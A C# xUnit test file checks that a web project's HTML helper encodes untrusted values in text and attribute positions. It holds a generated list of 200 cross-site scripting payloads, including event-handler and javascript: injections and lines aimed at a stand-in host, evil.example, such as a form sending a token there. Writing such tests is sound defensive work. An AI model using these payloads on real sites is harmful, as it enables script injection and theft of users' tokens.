using System.Net;
using Tender.Server.Pages.Shared;
using Xunit;

namespace Tender.Tests.Pages;

/// <summary>Threat C2: whatever stands in a text, it stays a text.</summary>
public class HtmlTests
{
    public static IEnumerable<string> Payloads =>
        from break_ in new[] { "", "\"", "'", ">", "\">", "'>", "</p>", "--><", "]]>", "&quot;>" }
        from markup in new[]
        {
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<iframe srcdoc='<script>alert(1)</script>'>",
            " onfocus=alert(1) autofocus x=",
            " style=animation-name:x onanimationstart=alert(1) ",
            "javascript:alert(1)",
            "<a href=javascript:alert(1)>x</a>",
            "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<!--",
            "${alert(1)}{{7*7}}`",
            "\u2028alert(1)//",
            "&lt;script&gt;",
            "<form action=//evil.example><input name=token>",
            "<link rel=stylesheet href=//evil.example>",
            "<b\u0000>",
            "\ud83d\ude00<i>",
        }
        select break_ + markup;

    [Fact]
    public void A_value_is_encoded_in_text_and_in_attributes()
    {
        var payloads = Payloads.ToList();
        Assert.Equal(200, payloads.Distinct().Count());
        foreach (var payload in payloads)
        {
            var html = Html.Of($"<p title=\"{payload}\">{payload}</p>").ToString();
            var inner = html["<p title=\"".Length..^"</p>".Length];
            // Between our own marks there is nothing that could be markup or end an attribute.
            var parts = inner.Split("\">");
            Assert.Equal(2, parts.Length);
            foreach (var part in parts)
            {
                Assert.Equal(-1, part.AsSpan().IndexOfAny("<>\"'"));
                Assert.Equal(payload.Replace("\0", "\uFFFD", StringComparison.Ordinal), Decoded(part));
            }
        }
    }

    private static string Decoded(string part) =>
        WebUtility.HtmlDecode(part).Replace("\0", "\uFFFD", StringComparison.Ordinal);
}
